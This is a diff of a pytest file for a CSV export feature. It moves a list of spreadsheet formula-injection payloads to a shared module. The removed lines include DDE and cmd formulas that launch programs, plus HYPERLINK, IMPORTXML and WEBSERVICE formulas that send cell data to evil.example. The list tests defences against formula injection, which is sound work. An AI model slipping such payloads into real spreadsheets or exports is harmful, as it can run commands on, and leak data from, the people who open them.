@@ -2,71 +2,15 @@
 
 import pytest
 
-from claims.choices import Verdict
-from claims.exports import exactly
 from claims.exports.cells import MAX_CELL_UTF16_UNITS, OMISSION
 from claims.exports.csv_export import COLUMNS, GUARDED, guarded, unguarded
-from claims.models import Anchor, Claim, Source
+from claims.models import Claim, Source
 from claims.refusal import Refused
-from claims.workflow import perform
 from tests import factories
 from tests.exports.exported import exported, exported_json, exported_rows, rows_of
+from tests.exports.payloads import PAYLOADS, only, reviewed
 
 pytestmark = pytest.mark.django_db
-
-# What has run as a formula, or has hidden one, in a spreadsheet.
-PAYLOADS = [
-    "<r>Profit & loss</r>",
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("https://evil.example?x="&A1,"Click")',
-    '=IMPORTXML(CONCAT("https://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
-    '=WEBSERVICE("https://evil.example")',
-    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
-    "+1+1",
-    "+cmd|' /C notepad'!'A1'",
-    "-1+1",
-    "-2+3+cmd|' /C calc'!D2",
-    "@SUM(1+9)*cmd|' /C calc'!A0",
-    "@A1",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "＝1+1",
-    "＋1+1",
-    "－1+1",
-    "＠SUM(1)",
-    "'=1+1",
-    "''=1+1",
-    "'",
-    '"=1+1"',
-    'a","=1+1',
-    "a\r\n=1+1",
-    "a\n=1+1",
-    ";=1+1",
-    "plain, with a comma",
-    "“curly”",
-    " =leading blank",
-]
-# A statement and an anchor keep their words; texts of a review may begin with anything.
-COLUMN_OF = {"statement": "statement", "claimant": "claimant", "rationale": "rationale", "correction": "correction"}
-
-
-def reviewed(payload: str) -> Claim:
-    """A settled claim with the payload in every text that a person types."""
-    ann = factories.user("ann", "reviewer")
-    claim = factories.claim()
-    Claim.objects.filter(pk=claim.pk).update(statement=payload, claimant=payload)
-    claim.refresh_from_db()
-    factories.cite(claim, ann, title="Act", excerpt=payload, pinpoint="p. 1")
-    perform("decide", claim, by=ann, verdict=Verdict.DISPUTED, rationale="x" if not payload.strip() else payload)
-    claim.reviews.update(rationale=payload, correction=payload)
-    Anchor.objects.filter(claim=claim).update(quote=payload)
-    return claim
-
-
-def only(claim: Claim):
-    return exactly(Claim.objects.filter(pk=claim.pk))
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
